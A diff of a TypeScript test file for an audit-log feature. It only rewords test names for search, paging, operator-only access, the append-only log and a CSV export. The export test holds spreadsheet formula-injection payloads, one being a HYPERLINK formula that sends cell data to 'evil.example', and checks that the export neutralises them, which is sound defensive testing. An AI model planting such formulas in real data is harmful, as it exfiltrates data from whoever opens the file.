@@ -36,8 +36,8 @@ const find = async (filter: InputOf<typeof getAuditList>) => {
   return list
 }
 
-describe('searching', () => {
-  it('by who did it, to whom, what, where from and when', async () => {
+describe('searching the audit log', () => {
+  it('filters by actor, subject, action, address and time', async () => {
     await note('levelChanged', 'kato', 'wang', { ip: '203.0.113.7' })
     await note('accountLocked', 'kato', 'mori', { ip: '203.0.113.8', at: new Date('2026-01-05T10:00:00Z') })
     await note('memberRemoved', 'clara', 'mori', { ip: '203.0.113.8' })
@@ -55,7 +55,7 @@ describe('searching', () => {
     expect(await actions({ actor: 'nobody at all' })).toEqual([])
   })
 
-  it('all that concerns one account, as doer or done to', async () => {
+  it('finds everything that concerns one account, as actor or as subject', async () => {
     const entries = await find({ account_id: ids.get('wang')! })
     expect(entries[0]).toMatchObject({
       action: 'levelChanged',
@@ -65,7 +65,7 @@ describe('searching', () => {
     })
   })
 
-  it('names companies, and the system where nobody did it', async () => {
+  it('shows names of companies, and the system where there is no actor', async () => {
     const { company_id } = await server.app.db
       .selectFrom('company')
       .select('company_id')
@@ -77,7 +77,7 @@ describe('searching', () => {
     expect(entry).toMatchObject({ actor: null, subject_name: 'Northlight Films', is_subject_account: false })
   })
 
-  it('pages newest first, every entry once', async () => {
+  it('pages newest first and lists every entry once', async () => {
     for (let n = 0; n < 25; n++) await note('signOut', 'tom', undefined, { at: new Date(Date.now() - n * minute) })
     const pages = await Promise.all(
       [0, 1, 2].map((pageIndex) => olga.call(getAuditList, { actor: 'tom', actions: ['signOut'], pageIndex })),
@@ -93,7 +93,7 @@ describe('searching', () => {
     )
   })
 
-  it('is for operators', async () => {
+  it('is only for operators', async () => {
     const clara = await server.as('clara')
     expect((await clara.ask(getAuditList, {})).err_msg).toBe('NO_PERMISSION')
     expect((await clara.ask(exportAudit, {})).err_msg).toBe('NO_PERMISSION')
@@ -103,7 +103,7 @@ describe('searching', () => {
 describe('the export (attack 17)', () => {
   const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '＝1+1']
 
-  it('holds what the list shows and no cell that a spreadsheet would run', async () => {
+  it('holds what the list shows and no cell that a spreadsheet would execute', async () => {
     for (const [index, nickname] of attacks.entries()) {
       const { account_id } = await server.make.person({ username: `evil${index}`, nickname })
       ids.set(`evil${index}`, account_id)
@@ -119,7 +119,7 @@ describe('the export (attack 17)', () => {
     for (const attack of attacks) expect(content).toContain(`'${attack}`.replaceAll('"', '""'))
   })
 
-  it('is itself on record', async () => {
+  it('is recorded itself', async () => {
     const [entry] = await find({ actions: ['auditExported'] })
     expect(entry).toMatchObject({ actor: { account_id: olga.account_id }, params: { count: attacks.length } })
   })
@@ -131,7 +131,7 @@ describe('the log', () => {
     await expect(sql`update audit_log set ip = ''`.execute(db)).rejects.toThrow('never changed')
     await expect(sql`delete from audit_log`.execute(db)).rejects.toThrow('never changed')
   })
-  it('asks an index for each filter', async () => {
+  it('has an index for each filter', async () => {
     const filters = ["ip = '1'", `actor_id = '${crypto.randomUUID()}'`, "action = 'signIn'", 'created_at > now()']
     await server.app.db.transaction().execute(async (tx) => {
       await sql`set local enable_seqscan = off`.execute(tx)
